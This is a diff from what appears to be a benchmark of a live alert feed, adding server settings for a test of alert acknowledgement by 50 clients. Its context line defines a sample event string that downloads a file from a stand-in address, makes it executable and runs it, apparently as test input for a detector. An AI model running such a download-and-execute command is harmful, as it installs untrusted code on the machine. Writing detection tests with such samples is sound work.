@@ -14,7 +14,11 @@ const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x'
 
 /** (e) From the receipt of an event to the acknowledgement of its alert by 50 clients, while events are ingested. */
 export async function benchLiveFeed() {
-  const server = await startServer({ LOG_LEVEL: 'INFO' })
+  const server = await startServer({
+    LOG_LEVEL: 'INFO',
+    METRICS_OPEN: 'true',
+    WS_MAX_CLIENTS_PER_USER: String(CLIENTS + 2),
+  })
   try {
     const token = await server.token()
     const clients = []
